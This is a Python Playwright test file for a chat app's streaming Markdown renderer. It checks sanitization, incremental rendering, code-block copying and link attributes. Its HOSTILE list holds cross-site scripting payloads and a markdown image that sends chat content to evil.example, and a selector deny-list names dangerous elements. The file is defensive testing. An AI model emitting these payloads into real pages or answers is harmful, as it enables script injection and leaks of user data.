"""Answers in Markdown: safe whatever they hold, and the same whether they came in one piece or in many."""

import re
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.chat import answers, ask, finish, wait_for_turn, write
from tests.browser.serving import BrowserServer

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt&#58;window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "![x](javascript:window.hacked=1)",
    "![x](https://evil.example/?q=what-was-said)",
    "<svg onload='window.hacked = 1'><a xlink:href='javascript:window.hacked=1'>x</a></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<form action='/logout/' method='post'><button>Log out</button></form>",
    "<style>body { display: none }</style>",
    "<div style='position:fixed;inset:0;z-index:99'>over everything</div>",
    "<math><mtext><table><mglyph><style><img src onerror='window.hacked = 1'>",
    "<a href='/logout/' id='composer' class='send' data-new-chat>x</a>",
    "```html\n<script>window.hacked = 1</script>\n```",
    '```"><script>window.hacked=1</script>\nx\n```',
    "[a]: javascript:window.hacked=1\n\n[a]",
    "<javascript:window.hacked=1>",
    "[x](//evil.example 'title\" onmouseover=\"window.hacked=1')",
]
FORBIDDEN = "script, img, svg:not(.icon), iframe, form, style, object, embed, input, math, [style], [onerror], [onload]"

SAMPLE = """# Heading

A paragraph with **bold**, *italic*, `code`, ~~struck~~ and a [link](https://example.com/x_(y)).
It goes on in the next line.

1. one
2. two

   with a second paragraph

   ```python
   def f(x):
       return x ** 2

   # after a blank line
   ```
3. three

- a
  - b
    - c

| left | center | right |
|:-----|:------:|------:|
| 1    | **2**  | 3     |

> quoted
> > twice

Setext
======

```js
const a = `**not bold** and [no](link)`;

// end
```

A reference [later] and a snake_case_name, 2 ** 3, a * b.

[later]: https://example.com/later

---

Последний абзац: «ёлки», 100 %, emoji 👩‍👩‍👧.
"""

RENDER = """
async ([text, size]) => {
  const {StreamText} = await import("/static/js/stream-text.js");
  const whole = document.createElement("div"), pieces = document.createElement("div");
  document.body.append(whole, pieces);
  new StreamText(whole).finish(text);
  const stream = new StreamText(pieces);
  let kept = 0, lost = 0, before = [];
  for (let at = 0; at < text.length; at += size) {
    stream.append(text.slice(at, at + size));
    await new Promise(requestAnimationFrame);
    const now = [...pieces.children];
    before.slice(0, -2).forEach((element) => (now.includes(element) ? (kept += 1) : (lost += 1)));
    before = now;
  }
  const grown = pieces.innerHTML;
  stream.finish();
  return {grown, whole: whole.innerHTML, finished: pieces.innerHTML, kept, lost, text: pieces.textContent};
}
"""


@pytest.fixture
def chat(page: Page) -> Page:
    page.goto("/")
    page.locator("#model-choice").wait_for()
    return page


def test_hostile_markdown_does_nothing_whether_it_streams_or_comes_whole(chat: Page, server: BrowserServer) -> None:
    for number, text in enumerate(HOSTILE, start=1):
        ask(chat, "Hi")
        turn = wait_for_turn(chat, server)
        write(server, turn, *text, "\n\nThe end.")
        expect(answers(chat)).to_have_count(number)
        expect(answers(chat).last).to_contain_text("The end.")
        assert chat.locator(".prose").locator(FORBIDDEN).count() == 0, text
        finish(server, turn)
        expect(chat.locator("#send.stop")).to_have_count(0)
        assert chat.locator(".prose").locator(FORBIDDEN).count() == 0, text
        links = answers(chat).last.locator("a")
        hrefs = links.evaluate_all("(links) => links.map((link) => link.getAttribute('href') ?? '')")
        assert not [href for href in hrefs if "script:" in href.lower() or href.startswith("data:")], text
        assert chat.locator(".prose [id], .prose [data-new-chat]").count() == 0, text
        for link in links.all():
            link.dispatch_event("click")
        assert chat.evaluate("window.hacked") is None, text


@pytest.mark.parametrize("size", [1, 3, 17, 200])
def test_a_text_that_came_in_pieces_ends_as_the_whole_one(chat: Page, size: int) -> None:
    result: dict[str, Any] = chat.evaluate(RENDER, [SAMPLE, size])
    plain = "(html) => { const box = document.createElement('div'); box.innerHTML = html; return box.textContent; }"
    assert chat.evaluate(plain, result["finished"]) == chat.evaluate(plain, result["whole"])
    structure = """(html) => {
      const box = document.createElement('div');
      box.innerHTML = html;
      const shown = [...box.querySelectorAll('*')].filter((e) => !e.closest('code'));
      return shown.map((e) => e.tagName + e.className).join();
    }"""
    assert chat.evaluate(structure, result["finished"]) == chat.evaluate(structure, result["whole"])


@pytest.mark.parametrize("size", [1, 7])
def test_blocks_that_are_done_are_never_built_anew(chat: Page, size: int) -> None:
    """Everything but the last two blocks keeps its elements from frame to frame: nothing can flicker."""
    result = chat.evaluate(RENDER, [SAMPLE, size])
    assert result["kept"] > 100
    assert result["lost"] == 0


def test_half_a_mark_is_not_shown(chat: Page, server: BrowserServer) -> None:
    ask(chat, "Hi")
    turn = wait_for_turn(chat, server)
    write(server, turn, "This is **very imp")
    expect(answers(chat)).to_have_text("This is very imp")
    expect(answers(chat).locator("strong")).to_have_text("very imp")
    write(server, turn, "ortant** and [a li")
    expect(answers(chat)).to_have_text("This is very important and a li")
    write(server, turn, "nk](https://exam")
    expect(answers(chat)).to_have_text("This is very important and a link")


def test_a_code_block_can_be_copied_while_it_grows_and_is_coloured_when_complete(
    chat: Page, server: BrowserServer
) -> None:
    chat.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ask(chat, "Code")
    turn = wait_for_turn(chat, server)
    write(server, turn, "```python\nimport os\n")
    expect(chat.locator(".code-block code")).to_have_text("import os\n")
    chat.get_by_role("button", name="Copy the code").click()
    expect(chat.get_by_role("button", name="Copied")).to_be_visible()
    write(server, turn, "print(os.name)\n")
    expect(chat.locator(".code-block code")).to_contain_text("print")
    assert chat.evaluate("navigator.clipboard.readText()") == "import os"
    assert chat.locator(".hljs-keyword").count() == 0
    write(server, turn, "```\n\nDone.")
    expect(chat.locator(".hljs-keyword")).to_have_text("import")
    finish(server, turn)
    expect(chat.locator("#send.stop")).to_have_count(0)
    expect(chat.locator(".hljs-keyword")).to_have_text("import")
    expect(chat.get_by_role("button", name="Copy the code")).to_be_visible()
    chat.get_by_role("button", name="Copy the code").click()
    expect(chat.locator("[data-copy-code] use")).to_have_attribute("href", re.compile("#check$"))
    assert chat.evaluate("navigator.clipboard.readText()") == "import os\nprint(os.name)"


def test_a_selection_in_a_growing_answer_stays(chat: Page, server: BrowserServer) -> None:
    ask(chat, "Hi")
    turn = wait_for_turn(chat, server)
    write(server, turn, "Select me, please")
    expect(answers(chat)).to_have_text("Select me, please")
    answers(chat).locator("p").evaluate("(p) => getSelection().setBaseAndExtent(p.firstChild, 0, p.firstChild, 6)")
    write(server, turn, " and go on", " writing")
    expect(answers(chat)).to_have_text("Select me, please and go on writing")
    assert chat.evaluate("getSelection().toString()") == "Select"


def test_links_open_elsewhere_and_give_nothing_away(chat: Page, server: BrowserServer) -> None:
    ask(chat, "Hi")
    turn = wait_for_turn(chat, server)
    write(server, turn, "[a](https://example.com) https://example.org/x")
    finish(server, turn)
    links = answers(chat).locator("a")
    expect(links).to_have_count(2)
    for link in links.all():
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(link).to_have_attribute("target", "_blank")


def test_the_whole_answer_is_copied_as_markdown(chat: Page, server: BrowserServer) -> None:
    chat.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ask(chat, "Hi")
    turn = wait_for_turn(chat, server)
    write(server, turn, "Some **bold** text")
    finish(server, turn)
    chat.get_by_role("button", name="Copy the answer").click()
    expect(chat.locator(".answer-foot").get_by_role("button", name="Copied")).to_be_visible()
    assert chat.evaluate("navigator.clipboard.readText()") == "Some **bold** text"
